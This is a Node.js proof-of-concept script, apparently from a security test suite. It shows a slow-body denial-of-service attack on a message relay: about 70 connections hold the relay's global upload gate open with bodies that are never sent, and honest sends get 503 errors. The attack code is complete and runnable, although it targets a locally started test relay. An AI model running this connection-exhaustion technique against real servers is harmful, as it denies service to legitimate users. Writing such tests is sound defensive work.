// No key needed: the body-read gate is global (64 bodies at once, all clients). An attacker keeps
// 64 POSTs open that declare a 100-byte body and never send it (random key + current timestamp pass
// the pre-body check; no valid signature is needed before the body). Every honest send meanwhile
// gets 503 too_many_uploads. 30 s of attack; honest sender tries every 250 ms.
// Usage: node 03e-body-gate-dos.mjs
import { startRelay, keypair, req, sleep, rawSocket } from './lib.mjs';
const relay = await startRelay('/tmp/rt/gate-' + process.pid);
const honest = keypair(); const to = keypair();
const trySend = async () => (await req(relay.url, 'POST', '/v1/messages', { kp: honest, body: JSON.stringify({ recipient_key: to.pub, body: { text: 'hi' } }) })).status;
console.log('before attack:', await trySend());
let stop = false; let opened = 0;
const socks = new Set();
async function attacker() {
  while (!stop) {
    while (socks.size < 70 && !stop) {
      const s = await rawSocket(relay.url);
      const k = keypair();
      s.write(`POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\nX-M2M-Public-Key: ${k.pub}\r\nX-M2M-Timestamp: ${new Date().toISOString()}\r\nX-M2M-Signature: ${'A'.repeat(86)}\r\n\r\n`);
      s.on('data', () => s.destroy()); s.on('close', () => socks.delete(s));
      socks.add(s); opened++;
    }
    await sleep(100);
  }
}
const atk = attacker();
await sleep(1000);
const hist = {};
const t0 = Date.now();
while (Date.now() - t0 < 30000) { const st = await trySend(); hist[st] = (hist[st] || 0) + 1; await sleep(250); }
stop = true; await atk;
for (const s of socks) s.destroy();
await sleep(500);
console.log(`during 30 s attack (${opened} attacker connections in total, ~70 open at a time): honest sends ${JSON.stringify(hist)}`);
console.log('after attack:', await trySend());
await relay.stop();
